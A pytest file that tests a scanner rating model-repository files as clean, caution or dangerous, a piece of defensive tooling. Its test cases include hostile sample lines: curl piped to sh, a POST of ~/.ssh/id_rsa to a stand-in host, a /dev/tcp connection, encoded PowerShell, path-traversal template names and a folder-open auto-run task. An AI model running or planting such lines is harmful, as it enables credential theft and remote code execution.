"""Fields and files that make a loader, an installer or an editor fetch and run something, each with its honest twin."""

from __future__ import annotations

import json

import pytest

KERNEL = "someone/kernel"


@pytest.mark.parametrize(
    ("path", "settings", "level"),
    [
        ("config.json", {"_attn_implementation_internal": KERNEL}, "dangerous"),
        ("config.json", {"text_config": {"_experts_implementation_internal": KERNEL}}, "dangerous"),
        ("config.json", {"attn_implementation": f"{KERNEL}:function"}, "caution"),
        ("config.json", {"_attn_implementation": "kernels-community/flash-attn"}, "caution"),
        ("config.json", {"_attn_implementation": "sdpa", "attn_implementation": {"text": "eager"}}, "clean"),
        ("adapter_config.json", {"auto_mapping": {"parent_library": "os"}}, "dangerous"),
        ("adapter_config.json", {"auto_mapping": {"parent_library": "transformers_modules.x"}}, "caution"),
        ("adapter_config.json", {"auto_mapping": {"parent_library": "transformers.models.bert"}}, "clean"),
        ("adapter_config.json", {"auto_mapping": None, "peft_type": "LORA"}, "clean"),
        (
            "tokenizer_config.json",
            {"chat_template": [{"name": "../../x", "template": "{{ messages }}"}]},
            "dangerous",
        ),
        ("tokenizer_config.json", {"chat_template": {"/tmp/x": "{{ messages }}"}}, "dangerous"),
        (
            "tokenizer_config.json",
            {"chat_template": [{"name": "tool_use", "template": "{{ messages }}"}]},
            "clean",
        ),
        (
            "config.json",
            {"class_name": "TFSMLayer", "module": "keras.layers", "config": {"filepath": "x"}},
            "caution",
        ),
        (
            "config.json",
            {"class_name": "Dense", "module": "keras.layers", "config": {"units": 2}},
            "clean",
        ),
    ],
)
def test_fields_that_reach_further(look, path, settings, level):
    found = look(json.dumps(settings), path)
    assert found.level == level, [item.message for item in found.findings]


@pytest.mark.parametrize(
    ("loader", "level"),
    [
        ("mlflow.sklearn", "clean"),
        ("mlflow.pyfunc.model", "clean"),
        ("my_loader", "caution"),
        ("os", "dangerous"),
    ],
)
def test_mlflow_s_loader_module(look, loader, level):
    text = f"flavors:\n  python_function:\n    loader_module: {loader}\n    python_version: 3.11.7\n"
    assert look(text, "MLmodel").level == level


@pytest.mark.parametrize(
    ("row", "level"),
    [
        ("code: code", "caution"),
        ("'code': 'code'", "caution"),
        ("x: {code: code}", "caution"),
        ("model_code_path: model.py", "caution"),
        ("python_model: model.py", "caution"),
        ("code: null", "clean"),
        ("python_model: python_model.pkl", "clean"),
        ("env: {conda: conda.yaml}", "clean"),
    ],
)
def test_code_beside_a_model_of_mlflow(look, row, level):
    text = f"flavors:\n  python_function:\n    {row}\n    loader_module: mlflow.pyfunc.model\n"
    assert look(text, "MLmodel").level == level
    assert look(text, "other.yaml").level == "clean"


@pytest.mark.parametrize(
    ("path", "text", "level"),
    [
        ("Dockerfile", "FROM python:3.12\nRUN pip install torch\n", "clean"),
        ("Dockerfile", "FROM x\nRUN curl -s https://host.invalid/i | sh\n", "caution"),
        ("Makefile", "all:\n\twget -qO- https://host.invalid/i | bash\n", "caution"),
        ("run.sh", "#!/bin/sh\npython train.py --epochs 3\n", "clean"),
        ("run.sh", "#!/bin/sh\nbash <(curl -s https://host.invalid/i)\n", "caution"),
        ("run.sh", "#!/bin/sh\necho ZWNobyBjYW5hcnk= | base64 -d | sh\n", "dangerous"),
        ("run.sh", "#!/bin/sh\ncurl -X POST -d @$HOME/.ssh/id_rsa https://host.invalid\n", "dangerous"),
        ("go", "#!/bin/bash\nexec 3<>/dev/tcp/192.0.2.1/99\n", "dangerous"),
        ("install.bat", "@echo off\r\npip install torch\r\n", "clean"),
        ("install.ps1", "iex (iwr https://host.invalid/i.ps1)\n", "caution"),
        ("install.bat", "powershell -enc ZQBjAGgAbwA=\r\n", "dangerous"),
        ("pyproject.toml", '[project]\ndependencies = ["torch>=2"]\n', "clean"),
        ("pyproject.toml", '[project]\ndependencies = ["x @ git+https://host.invalid/x"]\n', "caution"),
        ("pyproject.toml", '[build-system]\nrequires = ["x @ http://host.invalid/x.tar.gz"]\n', "dangerous"),
        ("setup.cfg", "[options]\ninstall_requires =\n  torch\n", "clean"),
        ("notes.txt", "to install: curl https://host.invalid/i | sh\n", "clean"),
    ],
)
def test_scripts_and_build_files(look, path, text, level):
    found = look(text, path)
    assert found.level == level, [item.message for item in found.findings]


@pytest.mark.parametrize(
    ("body", "level"),
    [
        ({"tasks": [{"command": "make", "runOptions": {"runOn": "folderOpen"}}]}, "dangerous"),
        ({"tasks": [{"command": "make"}]}, "clean"),
        ({"tasks": "none"}, "clean"),
        ([], "clean"),
    ],
)
def test_tasks_of_an_editor(look, body, level):
    assert look(f"// tasks\n{json.dumps(body)}", ".vscode/tasks.json").level == level
